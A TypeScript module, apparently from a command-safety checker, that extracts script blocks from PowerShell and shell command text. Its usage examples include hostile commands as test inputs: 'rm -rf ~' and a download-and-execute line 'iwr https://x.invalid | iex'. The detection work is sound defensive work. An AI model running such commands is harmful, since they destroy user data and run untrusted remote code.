/**
 * Script blocks: a `{ ... }` given as an argument (PowerShell's
 * `where { ... }`, `ForEach-Object { ... }`, `-Pattern { ... }`) is code the
 * program may run. They are found in the text, outside quotes, so a block
 * that holds a pipe (`where { iwr URL | iex }`) is seen whole; a `{` that
 * starts a command (an sh group, `then {`), a single word such as `{}` or
 * `{a,b}` (find's placeholder, a brace expansion) and `${VAR}` are not
 * blocks. Bounded quantifiers keep the scan linear. Pure.
 * @module
 */

/** Words after which `{` starts an sh group or a function body, not an argument. */
const RESERVED = new Set(["then", "do", "else", "elif", "if", "while", "until", "!", "time", "in"]);

/**
 * The contents of the script blocks passed as arguments in the text.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { scriptBlocks } from "./script_block.ts";
 * assert.deepEqual(scriptBlocks("ls | where { rm -rf ~ }"), ["rm -rf ~"]);
 * assert.deepEqual(scriptBlocks("gci | where { iwr https://x.invalid | iex }"), ["iwr https://x.invalid | iex"]);
 * assert.deepEqual(scriptBlocks("sls -Pattern {rm -rf ~}"), ["rm -rf ~"]);
 * assert.deepEqual(scriptBlocks("{ ls; } > /dev/null"), []);
 * assert.deepEqual(scriptBlocks("find . -exec rm {} \\; ; echo {a,b} ${x}"), []);
 * assert.deepEqual(scriptBlocks("awk '{ print $1 }' f"), []);
 * ```
 */
export function scriptBlocks(text: string): string[] {
  // Quoted text is a string, not a block (a nested string is checked when it is parsed itself).
  const bare = text.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, "''");
  const blocks: string[] = [];
  const re = /(?:^|[\s;&|(])((?:[^\s;&|(){}$]){1,200})[ \t]{1,50}\{([^{}]{0,4000})\}/g;
  for (const m of bare.matchAll(re)) {
    if (blocks.length >= 64) break;
    const word = m[1]!;
    const inner = m[2]!.trim();
    if (RESERVED.has(word) || !/\s/.test(inner)) continue;
    // `function f { ... }` is a function body.
    const before = bare.slice(0, m.index! + m[0].length - m[0].trimStart().length).trimEnd();
    if (/(?:^|\s)function$/.test(before)) continue;
    blocks.push(inner);
  }
  return blocks;
}

/** Cmdlets (and aliases) that run a script block given to them, as a filter, key or column. */
const BLOCK_CMDLETS =
  /(?:^|[\s;&|(])(?:where-object|where|\?|foreach-object|foreach|%|select-object|sort-object|group-object|measure-object|measure|format-table|format-list|format-wide|format-custom|out-string|get-member|compare-object|tee-object)(?=$|[\s{])/i;

/**
 * The script blocks in text that gives one to a cmdlet that runs it: any
 * `{...}` after the cmdlet's name, one word or many, attached to a
 * parameter (`-Property:{...}`) or inside a hash literal
 * (`@{e={...}}`, whose own braces are not code). Braces are matched in one
 * bounded pass outside quotes.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { cmdletBlocks } from "./script_block.ts";
 * assert.deepEqual(cmdletBlocks("gci | Sort-Object {calc}"), ["calc"]);
 * assert.deepEqual(cmdletBlocks("gci | Format-Table @{e={Remove-Item $_}}"), ["Remove-Item $_"]);
 * assert.deepEqual(cmdletBlocks("gci | Sort-Object -Property:{rm -rf ~}"), ["rm -rf ~"]);
 * assert.deepEqual(cmdletBlocks("gci | Sort-Object Name"), []);
 * ```
 */
export function cmdletBlocks(text: string): string[] {
  const m = BLOCK_CMDLETS.exec(text);
  if (m === null) return [];
  const blocks: string[] = [];
  const open: { at: number; hash: boolean }[] = [];
  let quote = "";
  for (let i = m.index; i < text.length && blocks.length < 64; i++) {
    const c = text[i]!;
    if (quote !== "") {
      if (c === quote) quote = "";
      continue;
    }
    if (c === "'" || c === '"') quote = c;
    else if (c === "{") {
      // `${name}` is an expansion, `@{` a hash literal.
      if (text[i - 1] === "$") continue;
      open.push({ at: i, hash: text[i - 1] === "@" });
    } else if (c === "}" && open.length > 0) {
      const o = open.pop()!;
      const inner = text.slice(o.at + 1, i).trim();
      // `{}` (find's placeholder) and `{a,b}`, `{1..3}` (brace expansions) are not blocks.
      if (!o.hash && inner !== "" && !/^[^\s{}]*(?:,|\.\.)[^\s{}]*$/.test(inner)) {
        blocks.push(inner);
      }
    }
  }
  return blocks;
}
